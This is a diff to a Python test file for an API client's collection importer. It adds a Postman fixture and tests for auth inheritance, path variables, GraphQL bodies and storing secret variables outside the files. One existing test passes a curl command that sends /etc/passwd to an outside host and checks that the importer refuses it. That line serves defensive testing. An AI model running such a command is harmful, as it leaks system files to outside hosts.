@@ -127,9 +127,55 @@ OPENAPI = {"openapi": "3.0.3", "info": {"title": "Pets"}, "servers": [{"url": "/
                        "$ref": "#/components/schemas/Pet"}}}}}}}}
 
 
+POSTMAN_AUTH = {
+    "info": {"name": "Inherited", "schema":
+             "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
+    "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{apiToken}}"}]},
+    "variable": [
+        {"key": "apiToken", "value": "pm-live-token-0123456789abcdef", "type": "secret"},
+        {"key": "old", "value": "x", "disabled": True}],
+    "item": [
+        {"name": "User", "request": {"method": "GET", "url": {
+            "raw": "{{baseUrl}}/echo/:userId?x=1", "variable": [
+                {"key": "userId", "value": "42"}, {"key": "unset"}]}}},
+        {"name": "Keyed", "auth": {"type": "apikey", "apikey": [
+            {"key": "key", "value": "X-Key"}, {"key": "value", "value": "{{k}}"}]},
+         "item": [{"name": "Inside", "request": {"method": "GET", "url": "{{baseUrl}}/k"}},
+                  {"name": "Open", "request": {"method": "GET", "url": "{{baseUrl}}/o",
+                                               "auth": {"type": "noauth"}}}]},
+        {"name": "Query", "request": {"method": "POST", "url": "{{baseUrl}}/graphql", "body": {
+            "mode": "graphql", "graphql": {"query": "{ me { id } }",
+                                           "variables": "{\"a\": 1}"}}}},
+        {"name": "Old style", "request": {"method": "GET", "url": "{{baseUrl}}/b",
+                                          "auth": {"type": "basic", "basic": {
+                                              "username": "ann", "password": "pw"}}}},
+    ]}
+
+
+def test_postman_auth_path_variables_graphql_and_secret_variables() -> None:
+    """Audit: a collection's (and a folder's) auth was dropped from every request, ':id'
+    path variables stayed in the URL with their values lost, GraphQL bodies were dropped,
+    a disabled variable came in active and a secret one as a plain value."""
+    _, variables, items, _ = from_postman(POSTMAN_AUTH)
+    assert variables == [{"name": "apiToken", "value": "pm-live-token-0123456789abcdef",
+                          "secret": True}]
+    specs = {spec.name: spec for _, spec in items}
+    user = specs["User"]
+    assert user.url == "{{baseUrl}}/echo/42?x=1"
+    assert (user.auth.type, user.auth.token) == ("bearer", "{{apiToken}}")
+    assert (specs["Inside"].auth.type, specs["Inside"].auth.key) == ("apikey", "X-Key")
+    assert specs["Open"].auth.type == "none"
+    query = specs["Query"]
+    assert query.body.mode == "json"
+    assert json.loads(query.body.text) == {"query": "{ me { id } }", "variables": {"a": 1}}
+    old = specs["Old style"].auth  # v2.0 writes auth values as an object
+    assert (old.type, old.username, old.password) == ("basic", "ann", "pw")
+
+
 def test_postman_har_and_openapi_import() -> None:
     name, variables, items, scripts = from_postman(POSTMAN)
-    assert name == "Shop" and variables == [{"name": "base", "value": "http://127.0.0.1:1"}]
+    assert name == "Shop" and variables == [{"name": "base", "value": "http://127.0.0.1:1",
+                                             "secret": False}]
     assert scripts == 1  # test scripts are not run; the count is reported
     assert [p for p, _ in items] == ["Orders/list-orders.request.json",
                                      "Orders/create-order.request.json", "login.request.json"]
@@ -216,6 +262,14 @@ async def test_ready_collections_for_the_apps_own_apis(tmp_path: Path) -> None:
             answer = await client.post("import", json={"kind": kind, "collection": kind,
                                                        "text": json.dumps(payload)})
             assert answer.status_code == 200, answer.text
+        # A secret Postman variable goes to the secret store, not into the files.
+        answer = await client.post("import", json={"kind": "postman", "collection": "pm",
+                                                   "text": json.dumps(POSTMAN_AUTH)})
+        assert answer.status_code == 200, answer.text
+        tree = await client.get("collections/pm")
+        assert tree.status_code == 200 and "pm-live-token" not in tree.text
+        holding = [p.name for p in tmp_path.rglob("*.json") if "pm-live-token" in p.read_text()]
+        assert holding in ([], ["secrets.json"])  # the 0600 store (or the keyring), only
         refused = await client.post("import", json={
             "kind": "curl", "collection": "Mine", "text": "curl -d @/etc/passwd http://x/"})
         assert refused.status_code == 400 and refused.json()["field"] == "text"
